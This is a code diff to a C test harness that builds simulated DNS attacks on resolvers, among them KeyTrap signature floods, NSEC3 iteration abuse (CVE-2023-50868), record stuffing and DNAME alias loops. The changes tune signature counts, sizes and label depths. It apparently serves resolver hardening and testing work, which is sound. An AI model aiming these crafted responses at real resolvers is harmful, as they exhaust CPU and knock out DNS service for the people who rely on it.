@@ -6,10 +6,11 @@
 #include <stdlib.h>
 #include <string.h>
 
-#define HOSTS   16
-#define TEXT    (1u << 18)
-#define TRAP    "trap.test."
+#define HOSTS     16
+#define TEXT      (1u << 18)
+#define TRAP      "trap.test."
 #define KEYS_KEPT 31 /* with the zone's own as many as are looked at */
+#define SIGS_KEPT 63 /* likewise */
 
 /* next - a number of no meaning */
 static uint64_t next(struct attack *a)
@@ -83,6 +84,7 @@ static void rsa_of_tag(struct attack *a, struct dns_key *key, size_t exponent, s
 
 	memset(key, 0, sizeof *key);
 	key->algorithm = 8;
+	key->flags = 256;
 	key->rdata[0] = 1; /* a zone key */
 	key->rdata[2] = 3;
 	key->rdata[3] = 8;
@@ -143,8 +145,8 @@ static void flood(struct attack *a, const char *name, unsigned type, ldns_pkt *p
 	dns_reply_strip(pkt, 0, 0);
 	for (unsigned n = 0; n < a->count; n++) {
 		ldns_rr *sig = ldns_rr_clone(model);
-		uint8_t noise[512];
-		size_t size = sizes[a->algorithm];
+		uint8_t noise[600];
+		size_t size = a->size != 0 ? a->size : sizes[a->algorithm];
 
 		for (size_t i = 0; i < size; i++)
 			noise[i] = (uint8_t)next(a);
@@ -153,8 +155,8 @@ static void flood(struct attack *a, const char *name, unsigned type, ldns_pkt *p
 		    sig, ldns_native2rdf_int8(LDNS_RDF_TYPE_ALG, (uint8_t)a->algorithm), 1));
 		ldns_rdf_deep_free(ldns_rr_set_rdf(
 		    sig, ldns_native2rdf_int16(LDNS_RDF_TYPE_INT16, (uint16_t)a->tag), 6));
-		ldns_rdf_deep_free(ldns_rr_set_rdf(
-		    sig, ldns_rdf_new_frm_data(LDNS_RDF_TYPE_B64, size, noise), 8));
+		ldns_rdf_deep_free(
+		    ldns_rr_set_rdf(sig, ldns_rdf_new_frm_data(LDNS_RDF_TYPE_B64, size, noise), 8));
 		ldns_pkt_push_rr(pkt, LDNS_SECTION_ANSWER, sig);
 	}
 	ldns_rr_free(model);
@@ -188,17 +190,17 @@ static void keytrap(struct attack *a, unsigned algorithm, unsigned keys, unsigne
 
 static void keytrap_rsa(struct attack *a)
 {
-	keytrap(a, 8, KEYS_KEPT, 100);
+	keytrap(a, 8, KEYS_KEPT, SIGS_KEPT);
 }
 
 static void keytrap_p256(struct attack *a)
 {
-	keytrap(a, 13, KEYS_KEPT, 100);
+	keytrap(a, 13, KEYS_KEPT, SIGS_KEPT);
 }
 
 static void keytrap_p384(struct attack *a)
 {
-	keytrap(a, 14, KEYS_KEPT, 100);
+	keytrap(a, 14, KEYS_KEPT, SIGS_KEPT);
 }
 
 static void keytrap_100(struct attack *a)
@@ -214,7 +216,8 @@ static void dear_keys(struct attack *a, size_t exponent, size_t modulus)
 
 	a->algorithm = 8;
 	a->tag = 4711;
-	a->count = 100;
+	a->count = SIGS_KEPT;
+	a->size = modulus;
 	a->edit = flood;
 	hosts(text);
 	for (unsigned i = 0; i < 4; i++) {
@@ -247,13 +250,13 @@ static void many_p384(struct attack *a)
 	world(a, &wish);
 	a->algorithm = 14;
 	a->tag = a->world->zones[2].key[0].tag;
-	a->count = 99;
+	a->count = SIGS_KEPT;
 	a->edit = flood;
 	free(text);
 }
 
 /* nsec3 - hosts that are not there, deep down, in a zone whose proofs are dear (CVE-2023-50868) */
-static void nsec3(struct attack *a, unsigned iterations, bool salted)
+static void nsec3(struct attack *a, unsigned iterations, bool salted, unsigned labels)
 {
 	static char salt[252];
 	char *text = calloc(1, TEXT), deep[241] = "";
@@ -261,7 +264,7 @@ static void nsec3(struct attack *a, unsigned iterations, bool salted)
 
 	memset(salt, 'x', sizeof salt - 1);
 	wish.salt = salted ? salt : NULL;
-	for (unsigned i = 0; i < 100; i++)
+	for (unsigned i = 0; i < labels; i++)
 		memcpy(deep + 2 * i, "x.", 3);
 	for (unsigned i = 0; i < 32; i++)
 		add(text, TRAP " MX %u h%u.%s" TRAP "\n", i, i, deep);
@@ -271,17 +274,17 @@ static void nsec3(struct attack *a, unsigned iterations, bool salted)
 
 static void nsec3_50(struct attack *a)
 {
-	nsec3(a, 50, false);
+	nsec3(a, 50, false, 100);
 }
 
 static void nsec3_150(struct attack *a)
 {
-	nsec3(a, 150, true);
+	nsec3(a, 150, true, 8);
 }
 
 static void nsec3_2500(struct attack *a)
 {
-	nsec3(a, 2500, true);
+	nsec3(a, 2500, true, 2);
 }
 
 /* stuff - more records than can be used: of one set, or each of another owner */
@@ -295,7 +298,8 @@ static void stuff(struct attack *a, const char *name, unsigned type, ldns_pkt *p
 		if (a->tag == 0)
 			snprintf(line, sizeof line, "%s A 10.0.%u.%u", name, i / 256, i % 256);
 		else
-			snprintf(line, sizeof line, "y%u." TRAP " A 10.0.%u.%u", i, i / 256, i % 256);
+			snprintf(
+			    line, sizeof line, "y%u." TRAP " A 10.0.%u.%u", i, i / 256, i % 256);
 		dns_reply_add(pkt, 0, line);
 	}
 }
@@ -357,8 +361,8 @@ static void alias_loop(struct attack *a)
 
 static void alias_dname(struct attack *a)
 {
-	world(a, &(struct dns_zone_wish){ .text = TRAP " MX 1 x.d." TRAP "\nd." TRAP
-							" DNAME d.d." TRAP "\n" });
+	world(a, &(struct dns_zone_wish){
+		     .text = TRAP " MX 1 x.d." TRAP "\nd." TRAP " DNAME d.d." TRAP "\n" });
 }
 
 /* calm - a domain like any other, to compare with */
@@ -456,7 +460,8 @@ static void refer(struct attack *a, unsigned how, const char *domain)
 	a->world = dns_world_new();
 	dns_world_add(a->world, &(struct dns_zone_wish){ .apex = "." });
 	dns_world_add(a->world, &(struct dns_zone_wish){ .apex = "evil.", .chain = DNS_UNSIGNED });
-	dns_world_add(a->world, &(struct dns_zone_wish){ .apex = "victim.", .chain = DNS_UNSIGNED });
+	dns_world_add(
+	    a->world, &(struct dns_zone_wish){ .apex = "victim.", .chain = DNS_UNSIGNED });
 	dns_world_build(a->world);
 }
 
